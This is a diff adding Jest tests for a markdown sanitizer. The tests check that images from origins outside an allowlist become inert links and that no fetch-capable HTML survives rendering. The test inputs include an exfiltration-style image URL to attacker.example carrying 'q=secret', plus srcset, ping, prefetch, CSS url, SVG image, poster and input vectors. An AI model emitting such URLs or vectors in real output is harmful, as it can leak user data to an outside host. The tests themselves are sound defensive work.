@@ -4,7 +4,7 @@
 // eslint-disable-next-line import/no-extraneous-dependencies -- ships with jest; typed, unlike its globals (no @types/jest).
 import { beforeAll, describe, expect, it } from '@jest/globals';
 
-import { whenSanitizerReady } from '../sanitize';
+import { allowImagesFrom, whenSanitizerReady } from '../sanitize';
 
 import { renderMarkdown } from '../markdown';
 
@@ -177,6 +177,7 @@ describe( 'renderMarkdown', () => {
 	} );
 
 	it( 'keeps absolute web images and drops data: and relative ones', () => {
+		allowImagesFrom( [ 'https://example.org' ] );
 		const root = render(
 			'![cat](https://example.org/cat.png) ![x](data:image/png;base64,AAAA) ![r](x.png) <img src="//example.org/a.png">'
 		);
@@ -184,6 +185,73 @@ describe( 'renderMarkdown', () => {
 		expect( images.map( ( i ) => i.getAttribute( 'src' ) ) ).toEqual( [
 			'https://example.org/cat.png',
 		] );
+	} );
+
+	it( 'shows an image from an origin not allowed as a link, requesting nothing', () => {
+		allowImagesFrom( [ 'https://dify.example', 'https://site.example' ] );
+		const root = render(
+			'![chat](https://attacker.example/?q=secret) ![ok](https://dify.example/files/a.png) ![](https://site.example:443/b.png) ![port](https://dify.example:8443/c.png) <img src="HTTPS://ATTACKER.example/d.png" alt="raw">'
+		);
+		expect(
+			Array.from( root.querySelectorAll( 'img' ) ).map( ( i ) =>
+				i.getAttribute( 'src' )
+			)
+		).toEqual( [
+			'https://dify.example/files/a.png',
+			'https://site.example:443/b.png',
+		] );
+		const links = Array.from( root.querySelectorAll( 'a' ) );
+		expect(
+			links.map( ( a ) => [
+				a.textContent,
+				a.getAttribute( 'href' ),
+				a.getAttribute( 'rel' ),
+			] )
+		).toEqual( [
+			[
+				'Image: chat',
+				'https://attacker.example/?q=secret',
+				'nofollow noopener noreferrer',
+			],
+			[
+				'Image: port',
+				'https://dify.example:8443/c.png',
+				'nofollow noopener noreferrer',
+			],
+			[
+				'Image: raw',
+				'HTTPS://ATTACKER.example/d.png',
+				'nofollow noopener noreferrer',
+			],
+		] );
+		// Nothing that fetches on its own: no image, source set, preload or ping to the stranger.
+		expect( root.innerHTML ).not.toMatch(
+			/<(img|source|picture|link)[^>]*attacker|srcset|ping=|style=/i
+		);
+	} );
+
+	it( 'shows every image as a link while no origin is allowed', () => {
+		allowImagesFrom( [] );
+		const root = render( '![cat](https://example.org/cat.png)' );
+		expect( root.querySelector( 'img' ) ).toBeNull();
+		expect( root.querySelector( 'a' )?.textContent ).toBe( 'Image: cat' );
+	} );
+
+	it( 'keeps no source set, picture, preload, ping or style that could fetch', () => {
+		allowImagesFrom( [ 'https://dify.example' ] );
+		const root = render(
+			'<picture><source srcset="https://attacker.example/1.png"><img src="https://dify.example/a.png" srcset="https://attacker.example/2.png 2x"></picture>' +
+				'<a href="https://x.example/" ping="https://attacker.example/ping">p</a>' +
+				'<link rel="prefetch" href="https://attacker.example/pre">' +
+				'<p style="background:url(https://attacker.example/bg.png)">s</p>' +
+				'<svg><image href="https://attacker.example/svg.png"/></svg>' +
+				'<video poster="https://attacker.example/poster.png"></video>' +
+				'<input type="image" src="https://attacker.example/input.png">'
+		);
+		expect( root.innerHTML ).not.toContain( 'attacker' );
+		expect( root.querySelector( 'img' )?.getAttribute( 'src' ) ).toBe(
+			'https://dify.example/a.png'
+		);
 	} );
 
 	it( 'shows html inside code as text', () => {
